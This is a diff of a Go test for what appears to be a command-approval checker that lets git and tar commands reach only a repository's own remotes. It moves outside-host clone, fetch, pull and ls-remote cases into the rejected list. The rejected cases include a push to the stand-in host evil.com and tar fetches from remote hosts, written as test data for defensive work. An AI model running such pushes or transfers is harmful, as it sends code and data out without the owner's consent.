@@ -120,13 +120,15 @@ func TestDestinations(t *testing.T) {
 	root := repo(t, cleanConfig) // origin = https://example.com/x.git
 	rules := []string{"git push", "git clone", "git fetch", "git pull", "git show", "tar", "mytool", "git ls-remote"}
 	for _, line := range []string{"git push", "git push origin main", "git push https://example.com/x.git main",
-		"git push origin HEAD:refs/heads/x", "git clone https://github.com/x/y", "git fetch https://elsewhere/x",
-		"git pull https://elsewhere/x main", "git show HEAD:go.mod", "tar -tf a.tar", "git ls-remote https://e/x"} {
+		"git push origin HEAD:refs/heads/x", "git clone https://example.com/x.git", "git fetch https://example.com/x",
+		"git pull origin main", "git show HEAD:go.mod", "tar -tf a.tar", "git ls-remote origin"} {
 		if v := checkIn(root, "", rules, line); !v.Approved {
 			t.Errorf("%q: %+v, want it approved", line, v)
 		}
 	}
 	for _, line := range []string{"git push https://elsewhere/x.git", "git push git@evil.com:x/y main",
+		"git clone https://github.com/x/y", "git fetch https://elsewhere/x", "git pull https://elsewhere/x main",
+		"git ls-remote https://e/x",
 		"tar -tf host:a.tar", "tar --file=host:a.tar -t", "tar -t -f user@host:/a.tar", "mytool https://example.org/x",
 		"mytool to=https://example.org/x"} {
 		v := checkIn(root, "", rules, line)
@@ -136,5 +138,5 @@ func TestDestinations(t *testing.T) {
 	}
 	// Without a project the remotes are unknown: a URL push asks.
 	asksNaming(t, []string{"git push"}, "git push https://example.com/x.git", "not one of the repository's remotes")
-	asksNaming(t, []string{"git push"}, "git push --repo=https://e/x", notKnown)
+	asksNaming(t, []string{"git push"}, "git push --repo=https://e/x", "not one of the repository's remotes")
 }
